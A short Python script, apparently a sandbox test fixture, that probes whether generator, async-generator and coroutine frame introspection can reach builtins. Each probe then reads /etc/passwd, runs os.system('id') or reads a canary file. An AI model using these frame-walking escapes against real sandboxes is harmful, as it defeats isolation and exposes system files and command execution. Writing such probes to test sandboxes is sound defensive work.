def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())


holder = []


def generator():
    # The frame of whoever drives the generator is behind it only while it runs.
    frame = holder[0].gi_frame.f_back
    while frame.f_back:
        frame = frame.f_back
    yield frame


holder.append(generator())
outer = next(holder[0])
attempt("generator", lambda: outer.f_builtins["open"]("/etc/passwd").read())


async def coroutine():
    yield 1


agen = coroutine()
attempt("async generator", lambda: agen.ag_frame.f_globals["__builtins__"].__import__("os").system("id"))


async def waits():
    import sys
    frame = sys._getframe()
    while frame.f_back:
        frame = frame.f_back
    return frame.f_builtins["open"]("{{root}}/canary.txt").read()


def drive(routine):
    try:
        routine.send(None)
    except StopIteration as end:
        return end.value


attempt("coroutine", lambda: drive(waits()))
pending = waits()
attempt("cr_frame", lambda: pending.cr_frame.f_globals["open"]("/etc/passwd"))
pending.close()
